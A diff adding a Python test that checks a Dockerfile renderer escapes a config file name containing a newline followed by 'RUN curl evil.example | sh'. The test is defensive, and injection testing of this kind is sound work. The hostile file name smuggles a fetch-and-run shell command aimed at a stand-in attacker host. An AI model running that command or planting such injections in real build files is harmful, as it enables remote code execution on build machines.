@@ -75,3 +75,15 @@ def test_context_tar_is_byte_identical_and_normalised() -> None:
         members = tar.getmembers()
     assert [m.name for m in members] == ["a.txt", "b.txt"]
     assert {(m.mtime, m.uid, m.gid, m.uname) for m in members} == {(0, 0, 0, "")}
+
+
+def test_a_config_file_name_cannot_add_dockerfile_instructions(tmp_path: Path) -> None:
+    from torchimages.matrix import load_matrix
+    from torchimages.render import render_dockerfile
+
+    hostile = tmp_path / "x\nRUN curl evil.example | sh\n#.yaml"
+    hostile.write_text((Path(__file__).parents[2] / "tests" / "fixtures" / "images.yaml").read_text())
+    matrix = load_matrix(hostile)
+    text = render_dockerfile(matrix.images[0], wheel_port=matrix.wheel_port)
+    assert not any(line.startswith("RUN curl") for line in text.splitlines())
+    assert "x\\nRUN curl evil.example | sh\\n#.yaml" in text.splitlines()[0]
